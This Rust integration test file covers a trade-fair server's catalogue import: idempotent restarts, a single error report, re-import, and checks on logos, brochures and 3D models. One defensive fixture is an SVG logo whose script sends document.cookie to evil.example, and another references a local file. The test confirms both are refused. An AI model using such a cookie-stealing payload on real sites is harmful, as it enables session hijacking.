//! Importing the catalogue: idempotent restarts, one report for every problem, explicit
//! re-import of edits, logos that try to do more than draw, and the media folder (pictures,
//! brochure, model) checked, stored and served.

use std::fs;

use axum::http::StatusCode;
use pavilion_model::{ExhibitorDetail, HallSnapshot, MediaKind};
use pavilion_server::Error;
use pavilion_server::catalogue::ImportActor;
use pavilion_server::db::Store;
use resvg::tiny_skia::{Color, Pixmap};

use crate::{FIXTURE_SIZE, KESTREL, fixture_catalogue, spawn_app, spawn_app_with, write_profile};

#[tokio::test]
async fn a_second_start_changes_nothing() {
    let app = spawn_app().await;
    let counts = app.state.store().row_counts().await.unwrap();
    assert_eq!(counts.exhibitors, FIXTURE_SIZE as i64);
    assert_eq!(counts.snapshots, 1);
    assert_eq!(counts.layout_drafts, 1);
    let etag = app.get("/api/v1/hall").await.header("etag").to_owned();

    let app = app.restart().await;
    assert_eq!(app.state.published().version, 1);
    assert_eq!(app.state.store().row_counts().await.unwrap(), counts);
    assert_eq!(app.get("/api/v1/hall").await.header("etag"), etag);
}

#[tokio::test]
async fn an_invalid_profile_fails_the_whole_import_with_one_report() {
    let catalogue = fixture_catalogue();
    write_profile(catalogue.path(), "broken-booth", "Broken Booth", None);
    let profile_path = catalogue.path().join("broken-booth/profile.toml");
    let profile = fs::read_to_string(&profile_path)
        .unwrap()
        .replace("topic = \"cryptography\"", "topic = \"gardening\"")
        .replace(
            "tagline = \"Fixtures that hold their shape under any test\"\n",
            "",
        );
    fs::write(&profile_path, profile).unwrap();
    fs::create_dir(catalogue.path().join("half-written")).unwrap();

    let Err((error, data)) = spawn_app_with(catalogue).await else {
        panic!("an invalid catalogue must not import");
    };
    assert!(matches!(error, Error::InvalidCatalogue(_)), "{error:?}");
    let report = error.to_string();
    assert!(
        report.contains("broken-booth: tagline: is missing"),
        "{report}"
    );
    assert!(
        report.contains("broken-booth: topic: unknown topic \"gardening\""),
        "{report}"
    );
    assert!(
        report.contains("half-written: profile.toml: is missing"),
        "{report}"
    );
    assert!(
        report.contains("half-written: logo.svg: is missing"),
        "{report}"
    );
    assert!(report.contains("nothing was imported"), "{report}");

    let store = Store::open(data.path()).await.unwrap();
    assert_eq!(store.exhibitor_count().await.unwrap(), 0);
    assert!(!data.path().join("media").exists(), "no media written");
}

#[tokio::test]
async fn an_edited_profile_is_picked_up_only_by_an_explicit_import() {
    let app = spawn_app().await;
    let profile_path = app.catalogue.path().join(KESTREL).join("profile.toml");
    let original = fs::read_to_string(&profile_path).unwrap();
    let tagline_line = original
        .lines()
        .find(|l| l.starts_with("tagline = "))
        .unwrap()
        .to_owned();
    let edited = original.replace(&tagline_line, "tagline = \"Edited for the re-import test\"");
    fs::write(&profile_path, edited).unwrap();
    write_profile(app.catalogue.path(), "late-arrival", "Late Arrival", None);

    let app = app.restart().await;
    let detail = |body: &[u8]| serde_json::from_slice::<ExhibitorDetail>(body).unwrap();
    let before = detail(&app.get(&format!("/api/v1/exhibitors/{KESTREL}")).await.body);
    assert_ne!(
        before.tagline, "Edited for the re-import test",
        "a restart must not re-import"
    );
    assert_eq!(
        app.get("/api/v1/exhibitors/late-arrival").await.status,
        StatusCode::NOT_FOUND
    );

    let report = app
        .state
        .reimport(app.catalogue.path(), ImportActor::Cli)
        .await
        .unwrap();
    assert_eq!(report.updated, [KESTREL]);
    assert_eq!(report.added, ["late-arrival"]);
    assert_eq!(report.unchanged, FIXTURE_SIZE - 1);
    assert_eq!(report.placed.len(), 1, "{report}");
    assert!(
        report.to_string().contains("1 added, 1 updated"),
        "{report}"
    );
    // A seed import updates the draft; visitors see it once staff publish.
    assert_eq!(report.published_version, None);
    assert_eq!(app.state.published().version, 1);
    let admin = crate::me_support::staff_token(&app, "ada", "admin").await;
    let published =
        crate::me_support::send(&app, "POST", "/api/v1/staff/publish", Some(&admin), "").await;
    assert_eq!(published.status, StatusCode::OK);

    let after = detail(&app.get(&format!("/api/v1/exhibitors/{KESTREL}")).await.body);
    assert_eq!(after.tagline, "Edited for the re-import test");
    let snapshot: HallSnapshot =
        serde_json::from_slice(&app.get("/api/v1/hall").await.body).unwrap();
    assert_eq!(snapshot.version, 2);
    assert_eq!(snapshot.booth_count(), FIXTURE_SIZE + 1);

    let again = app
        .state
        .reimport(app.catalogue.path(), ImportActor::Cli)
        .await
        .unwrap();
    assert!(!again.changed_anything());
    assert_eq!(again.published_version, None);
    assert_eq!(app.state.published().version, 2);
}

/// A red PNG beside the logo: if any of it shows up in the rendering, a file was read.
fn red_png() -> Vec<u8> {
    let mut pixmap = Pixmap::new(8, 8).unwrap();
    pixmap.fill(Color::from_rgba8(255, 0, 0, 255));
    pixmap.encode_png().unwrap()
}

#[tokio::test]
async fn logos_with_scripts_or_external_images_are_refused_before_rendering() {
    let png_folder = tempfile::tempdir().unwrap();
    let png_path = png_folder.path().join("red.png");
    fs::write(&png_path, red_png()).unwrap();
    let scripted = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect x="0" y="0" width="200" height="160" fill="#00aa00" onload="alert(1)"/>
</svg>"##;
    let external = format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 160">
  <rect x="0" y="0" width="200" height="160" fill="#00aa00"/>
  <image x="200" y="0" width="440" height="160" xlink:href="file://{path}"/>
</svg>"##,
        path = png_path.display()
    );
    for (slug, logo, expected) in [
        ("sneaky-logo", scripted.to_owned(), "active content"),
        ("peeking-logo", external, "outside the file"),
    ] {
        let catalogue = fixture_catalogue();
        write_profile(catalogue.path(), slug, "Sneaky Logo", Some(&logo));
        let Err((error, _data)) = spawn_app_with(catalogue).await else {
            panic!("{slug}: the SVG check must refuse it before resvg reads it");
        };
        let report = error.to_string();
        assert!(
            report.contains(&format!("{slug}: logo.svg: the SVG")) && report.contains(expected),
            "{report}"
        );
    }
}

#[tokio::test]
async fn a_logo_that_draws_nothing_safe_is_refused_with_a_clear_message() {
    let catalogue = fixture_catalogue();
    let only_image = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 160"><image width="640" height="160" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="/></svg>"##;
    write_profile(
        catalogue.path(),
        "image-only",
        "Image Only",
        Some(only_image),
    );
    let Err((error, _data)) = spawn_app_with(catalogue).await else {
        panic!("a logo with nothing to draw must be refused");
    };
    let report = error.to_string();
    assert!(
        report.contains("image-only: logo.svg: the SVG draws nothing visible"),
        "{report}"
    );
}

/// The first company of the real catalogue whose media include a model and a brochure.
fn company_with_a_model() -> String {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../exhibitors");
    let mut names: Vec<String> = fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
        .into_iter()
        .find(|name| {
            fs::read_to_string(root.join(name).join("media/media.toml")).is_ok_and(|manifest| {
                manifest.contains("kind = \"model\"") && manifest.contains("kind = \"brochure\"")
            })
        })
        .expect("the catalogue has a company with a model and a brochure")
}

#[tokio::test]
async fn catalogue_media_are_checked_stored_and_served() {
    let catalogue = fixture_catalogue();
    let slug = company_with_a_model();
    let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../exhibitors")
        .join(&slug);
    let target = catalogue.path().join(&slug);
    fs::create_dir_all(target.join("media")).unwrap();
    for file in ["profile.toml", "logo.svg"] {
        fs::copy(source.join(file), target.join(file)).unwrap();
    }
    for entry in fs::read_dir(source.join("media")).unwrap() {
        let path = entry.unwrap().path();
        fs::copy(&path, target.join("media").join(path.file_name().unwrap())).unwrap();
    }

    let app = spawn_app_with(catalogue)
        .await
        .map_err(|(e, _)| e)
        .expect("the catalogue with media imports");
    let detail: ExhibitorDetail =
        serde_json::from_slice(&app.get(&format!("/api/v1/exhibitors/{slug}")).await.body).unwrap();
    let of = |kind: MediaKind| detail.media.iter().filter(move |m| m.kind == kind);
    assert!(of(MediaKind::Image).count() >= 2, "{:?}", detail.media);
    assert!(of(MediaKind::Image).all(|m| m.product.is_some() && m.width.is_some()));
    let brochure = of(MediaKind::Brochure).next().unwrap();
    let model = of(MediaKind::Model).next().unwrap();

    let snapshot: HallSnapshot =
        serde_json::from_slice(&app.get("/api/v1/hall").await.body).unwrap();
    assert_eq!(
        snapshot.exhibitor(&slug).unwrap().model_url.as_deref(),
        Some(model.url.as_str())
    );
    assert_eq!(snapshot.exhibitor(KESTREL).unwrap().model_url, None);

    // Pictures are served as the PNG re-encoded at import, not the file in the folder.
    let image = of(MediaKind::Image).next().unwrap();
    let reply = app.get(&image.url).await;
    assert_eq!(reply.header("content-type"), "image/png");
    assert!(reply.body.starts_with(b"\x89PNG\r\n\x1a\n"));

    let reply = app.get(&brochure.url).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(reply.header("content-type"), "application/pdf");
    assert!(
        reply
            .header("content-disposition")
            .starts_with("attachment"),
        "{:?}",
        reply.headers
    );
    assert!(reply.body.starts_with(b"%PDF-1.4"));

    let reply = app.get(&model.url).await;
    assert_eq!(reply.header("content-type"), "model/gltf-binary");
    assert!(reply.body.starts_with(b"glTF"));

    // A second start changes nothing, media included.
    let counts = app.state.store().row_counts().await.unwrap();
    let app = app.restart().await;
    assert_eq!(app.state.store().row_counts().await.unwrap(), counts);
    assert_eq!(app.state.published().version, 1);
}

#[tokio::test]
async fn a_model_with_an_external_buffer_fails_the_import_with_its_file_named() {
    let catalogue = fixture_catalogue();
    let slug = company_with_a_model();
    let source = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../exhibitors")
        .join(&slug);
    let target = catalogue.path().join(&slug);
    fs::create_dir_all(target.join("media")).unwrap();
    for file in ["profile.toml", "logo.svg"] {
        fs::copy(source.join(file), target.join(file)).unwrap();
    }
    let manifest = fs::read_to_string(source.join("media/media.toml")).unwrap();
    // Keep only the model, and break it: its JSON now names an external buffer.
    let model_entry = manifest
        .split("[[files]]")
        .find(|part| part.contains("kind = \"model\""))
        .unwrap();
    fs::write(
        target.join("media/media.toml"),
        format!("[[files]]{model_entry}"),
    )
    .unwrap();
    let glb = fs::read(source.join("media/model.glb")).unwrap();
    let text = String::from_utf8_lossy(&glb).into_owned();
    let from = r#""buffers":[{"byteLength""#;
    let to = r#""buffers":[{"uri":"x.bin","byteLength""#;
    assert!(text.contains(from));
    // Same length is not needed: the JSON chunk length is rewritten by hand below.
    let json_len = u32::from_le_bytes(glb[12..16].try_into().unwrap()) as usize;
    let json = String::from_utf8(glb[20..20 + json_len].to_vec())
        .unwrap()
        .replace(from, to);
    let mut json = json.into_bytes();
    while !json.len().is_multiple_of(4) {
        json.push(b' ');
    }
    let bin = &glb[20 + json_len..];
    let mut broken = b"glTF".to_vec();
    broken.extend_from_slice(&2u32.to_le_bytes());
    broken.extend_from_slice(&((12 + 8 + json.len() + bin.len()) as u32).to_le_bytes());
    broken.extend_from_slice(&(json.len() as u32).to_le_bytes());
    broken.extend_from_slice(b"JSON");
    broken.extend_from_slice(&json);
    broken.extend_from_slice(bin);
    fs::write(target.join("media/model.glb"), broken).unwrap();

    let Err((error, data)) = spawn_app_with(catalogue).await else {
        panic!("a model with an external buffer must not import");
    };
    let report = error.to_string();
    assert!(
        report.contains(&format!(
            "{slug}: media/model.glb: the model's buffer 0 points at \"x.bin\""
        )),
        "{report}"
    );
    let store = Store::open(data.path()).await.unwrap();
    assert_eq!(store.exhibitor_count().await.unwrap(), 0);
}
